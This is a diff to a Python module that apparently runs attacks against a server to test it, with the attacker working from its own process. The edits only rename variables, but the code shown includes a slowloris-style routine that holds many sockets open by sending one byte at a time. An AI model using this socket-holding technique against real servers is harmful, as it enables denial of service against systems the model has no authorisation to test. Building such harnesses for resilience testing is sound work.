@@ -42,10 +42,10 @@ class AttackTally:
 def attacking_apart(url: str, attack: Attack) -> Iterator[AttackTally]:
     """As ``attacking``, from a process of its own: attackers and searchers share the machine, not an interpreter."""
     spawned, tally = multiprocessing.get_context("spawn"), AttackTally()
-    stop, begun, results = spawned.Event(), spawned.Event(), spawned.SimpleQueue()
-    child = spawned.Process(target=_apart, args=(url, attack, stop, begun, results), daemon=True)
+    stop, started, results = spawned.Event(), spawned.Event(), spawned.SimpleQueue()
+    child = spawned.Process(target=_apart, args=(url, attack, stop, started, results), daemon=True)
     child.start()
-    begun.wait(_GIVES_UP_S)
+    started.wait(_GIVES_UP_S)
     try:
         yield tally
     finally:
@@ -57,9 +57,9 @@ def attacking_apart(url: str, attack: Attack) -> Iterator[AttackTally]:
             tally.answers, tally.failed = results.get()
 
 
-def _apart(url: str, attack: Attack, stop: Any, begun: Any, results: Any) -> None:
+def _apart(url: str, attack: Attack, stop: Any, started: Any, results: Any) -> None:
     with attacking(url, attack) as tally:
-        begun.set()
+        started.set()
         stop.wait(_LONGEST_S)
     results.put((tally.answers, tally.failed))
 
@@ -95,14 +95,14 @@ def _hold(url: str, request: UnfinishedRequest, tally: AttackTally, stop: thread
     """Every socket is opened again where the server closed it, once each turn."""
     place = urlsplit(url)
     wires: list[socket.socket | None] = [None] * request.sockets
-    until = time.monotonic()
+    sends_s = time.monotonic()
     while not stop.is_set():
         for number, wire in enumerate(wires):
             wires[number] = _with_one_more_byte(wire, request, tally) or _opened(
                 place.hostname or "", place.port or 80, request, tally
             )
-        until += request.every_s
-        stop.wait(max(0.0, until - time.monotonic()))
+        sends_s += request.every_s
+        stop.wait(max(0.0, sends_s - time.monotonic()))
     for wire in wires:
         if wire is not None:
             tally.answers["still held"] += 1
